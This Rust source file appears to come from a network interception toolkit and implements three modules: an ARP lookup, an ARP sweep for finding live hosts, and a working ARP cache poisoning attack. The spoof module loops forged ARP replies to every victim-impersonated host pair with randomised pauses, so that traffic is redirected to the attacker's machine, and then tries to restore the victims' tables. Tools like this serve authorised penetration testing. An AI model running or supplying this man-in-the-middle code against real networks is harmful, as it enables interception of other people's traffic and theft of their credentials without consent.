// ARP lookup, ARP sweep and ARP cache poisoning.

use std::collections::BTreeSet;
use std::thread;
use std::time::Duration;

use rand::Rng;
use rand::seq::SliceRandom;

use crate::error::InterceptorError;
use crate::module::{Arguments, Module, ModuleContext, ParamKind, ParamSpec};
use crate::net::addr::{Ipv4Address, MacAddress, parse_targets};
use crate::net::protocols::{ArpPacket, ETHERTYPE_ARP};
use crate::net::resolver::arp_request;
use crate::net::socket::{RecvParams, layer2};
use crate::store::{self, Host, HostStore};
use crate::task::OutputSink;

use super::{INTERFACE_PARAM, seconds};

// ---------------------------------------------------------------------------
// arp.lookup
// ---------------------------------------------------------------------------

pub struct ArpLookup;

const LOOKUP_PARAMS: &[ParamSpec] = &[
    ParamSpec::required("host_id", ParamKind::Int, "stored host to resolve"),
    INTERFACE_PARAM,
];

impl Module for ArpLookup {
    fn name(&self) -> &'static str {
        "arp.lookup"
    }

    fn description(&self) -> &'static str {
        "Resolve the MAC address of a stored host with an ARP request"
    }

    fn params(&self) -> &'static [ParamSpec] {
        LOOKUP_PARAMS
    }

    fn run(
        &self,
        ctx: &ModuleContext,
        args: &Arguments,
        out: &OutputSink,
    ) -> Result<bool, InterceptorError> {
        let host_id = args.require_id("host_id")?;
        let Some(host) = ctx.store.get_host(host_id)? else {
            out.line("No such host exists.");
            return Ok(false);
        };
        let Some(ip) = host.ipv4 else {
            out.line("Host exists but has no IPv4 address.");
            return Ok(false);
        };

        let iface = ctx.interface(args)?;
        let mut sock = ctx.open(&iface)?;
        out.line(format_args!("Sending ARP request for {ip} on {}...", iface.name));

        match arp_request(&mut sock, &iface, ip, ctx.config.arp_timeout, Some(&ctx.cancel))? {
            Some(reply) => {
                out.line(format_args!("MAC address: {}", reply.sender_hw));
                ctx.store.set_host(host.id, None, None, Some(reply.sender_hw))?;
                Ok(true)
            }
            None => {
                out.line("No ARP response received.");
                Ok(false)
            }
        }
    }
}

// ---------------------------------------------------------------------------
// discover.arp.scan
// ---------------------------------------------------------------------------

pub struct ArpScan;

const SCAN_PARAMS: &[ParamSpec] = &[
    ParamSpec::required("range", ParamKind::Str, "CIDR block, a-b range or address"),
    ParamSpec::with_default("timeout", ParamKind::Float, "1.0", "seconds to wait for replies"),
    INTERFACE_PARAM,
];

impl Module for ArpScan {
    fn name(&self) -> &'static str {
        "discover.arp.scan"
    }

    fn description(&self) -> &'static str {
        "Find live hosts in a range with ARP requests and record their MAC addresses"
    }

    fn params(&self) -> &'static [ParamSpec] {
        SCAN_PARAMS
    }

    fn stoppable(&self) -> bool {
        true
    }

    fn run(
        &self,
        ctx: &ModuleContext,
        args: &Arguments,
        out: &OutputSink,
    ) -> Result<bool, InterceptorError> {
        let targets = parse_targets(args.require_str("range")?)?;
        let timeout = seconds(args.float("timeout"));

        let iface = ctx.interface(args)?;
        let our_mac = iface.require_mac()?;
        let our_ip = iface.require_ipv4()?;
        let mut sock = ctx.open(&iface)?;

        let mut pending = BTreeSet::new();
        for ip in targets {
            if ctx.is_cancelled() {
                out.line("Scan stopped.");
                return Ok(false);
            }
            out.line(format_args!("Broadcasting ARP request for {ip}"));
            let request = ArpPacket::request(our_mac, our_ip, ip);
            layer2::send(&mut sock, &iface, MacAddress::BROADCAST, ETHERTYPE_ARP, &request.encode())?;
            pending.insert(ip);
        }

        let params = RecvParams::new(pending.len(), timeout).with_cancel(ctx.cancel.clone());
        let replies = layer2::recv(&mut sock, &params, |frame| {
            frame.ethertype == ETHERTYPE_ARP
                && frame.dst == our_mac
                && ArpPacket::decode(&frame.payload).is_ok_and(|arp| {
                    arp.is_reply() && arp.target_proto == our_ip && pending.remove(&arp.sender_proto)
                })
        })?;

        for frame in &replies {
            let arp = ArpPacket::decode(&frame.payload)?;
            out.line(format_args!("{} is live at {}.", arp.sender_proto, arp.sender_hw));
            store::remember_mac(ctx.store.as_ref(), arp.sender_proto, arp.sender_hw)?;
        }
        for ip in &pending {
            out.line(format_args!("No reply from {ip}"));
        }

        out.line(format_args!("{} hosts live.", replies.len()));
        Ok(true)
    }
}

// ---------------------------------------------------------------------------
// mitm.arp.spoof
// ---------------------------------------------------------------------------

pub struct ArpSpoof;

const SPOOF_PARAMS: &[ParamSpec] = &[
    ParamSpec::optional("target_ids", ParamKind::IntList, "hosts to poison (default: all)"),
    ParamSpec::optional("spoof_ids", ParamKind::IntList, "hosts to impersonate (default: all)"),
    INTERFACE_PARAM,
];

const MAX_PAUSE_MS: u64 = 333;

struct Victim {
    id: u64,
    ip: Ipv4Address,
    mac: MacAddress,
}

struct Impersonated {
    id: u64,
    ip: Ipv4Address,
    mac: Option<MacAddress>,
}

fn load_hosts(
    store: &dyn HostStore,
    ids: Option<&[i64]>,
    out: &OutputSink,
) -> Result<Vec<Host>, InterceptorError> {
    let Some(ids) = ids else {
        return store.all_hosts();
    };
    let mut hosts = Vec::with_capacity(ids.len());
    for &id in ids {
        match u64::try_from(id).ok().map(|id| store.get_host(id)).transpose()? {
            Some(Some(host)) => hosts.push(host),
            _ => out.line(format_args!("Host {id} not found in database.")),
        }
    }
    Ok(hosts)
}

impl Module for ArpSpoof {
    fn name(&self) -> &'static str {
        "mitm.arp.spoof"
    }

    fn description(&self) -> &'static str {
        "Poison targets' ARP caches so traffic for spoofed hosts reaches this machine"
    }

    fn params(&self) -> &'static [ParamSpec] {
        SPOOF_PARAMS
    }

    fn stoppable(&self) -> bool {
        true
    }

    fn run(
        &self,
        ctx: &ModuleContext,
        args: &Arguments,
        out: &OutputSink,
    ) -> Result<bool, InterceptorError> {
        let iface = ctx.interface(args)?;
        let our_mac = iface.require_mac()?;

        out.line("Retrieving hosts from database.");
        let victims: Vec<Victim> = load_hosts(ctx.store.as_ref(), args.int_list("target_ids"), out)?
            .into_iter()
            .filter_map(|h| match (h.ipv4, h.mac) {
                (Some(ip), Some(mac)) => Some(Victim { id: h.id, ip, mac }),
                _ => {
                    out.line(format_args!(
                        "Host {} needs both IPv4 and MAC to be attacked.",
                        h.id
                    ));
                    None
                }
            })
            .collect();
        let impersonated: Vec<Impersonated> =
            load_hosts(ctx.store.as_ref(), args.int_list("spoof_ids"), out)?
                .into_iter()
                .filter_map(|h| {
                    let Some(ip) = h.ipv4 else {
                        out.line(format_args!("No IPv4 address for host {}; cannot spoof it.", h.id));
                        return None;
                    };
                    if h.mac.is_none() {
                        out.line(format_args!(
                            "Warning: no MAC for host {}; it cannot be restored afterwards.",
                            h.id
                        ));
                    }
                    Some(Impersonated { id: h.id, ip, mac: h.mac })
                })
                .collect();

        let mut pairs: Vec<(&Impersonated, &Victim)> = impersonated
            .iter()
            .flat_map(|s| victims.iter().filter(move |v| v.id != s.id).map(move |v| (s, v)))
            .collect();
        if pairs.is_empty() {
            out.line("No host pairs to spoof.");
            return Ok(false);
        }

        let mut rng = rand::thread_rng();
        pairs.shuffle(&mut rng);
        let mut sock = ctx.open(&iface)?;

        out.line(format_args!("Beginning ARP spoofing ({} pairs).", pairs.len()));
        'attack: while !ctx.is_cancelled() {
            for (spoofed, victim) in &pairs {
                if ctx.is_cancelled() {
                    break 'attack;
                }
                let poison = ArpPacket::reply(our_mac, spoofed.ip, victim.mac, victim.ip);
                if let Err(e) =
                    layer2::send_as(&mut sock, our_mac, victim.mac, ETHERTYPE_ARP, &poison.encode())
                {
                    out.line(format_args!(
                        "Error sending spoofed ARP reply to host {}: {e}",
                        victim.id
                    ));
                }
                thread::sleep(Duration::from_millis(rng.gen_range(0..MAX_PAUSE_MS)));
            }
        }

        out.line("Stopping ARP spoofing attack...");
        out.line("Restoring victims' ARP tables...");
        for (spoofed, victim) in &pairs {
            let Some(real_mac) = spoofed.mac else {
                out.line(format_args!(
                    "Unknown MAC for host {}; cannot restore it for host {}.",
                    spoofed.id, victim.id
                ));
                continue;
            };
            let restore = ArpPacket::reply(real_mac, spoofed.ip, victim.mac, victim.ip);
            if let Err(e) =
                layer2::send_as(&mut sock, real_mac, victim.mac, ETHERTYPE_ARP, &restore.encode())
            {
                out.line(format_args!(
                    "Error restoring {} for {}: {e}",
                    spoofed.ip, victim.ip
                ));
            }
        }
        out.line("Attack complete.");
        Ok(true)
    }
}
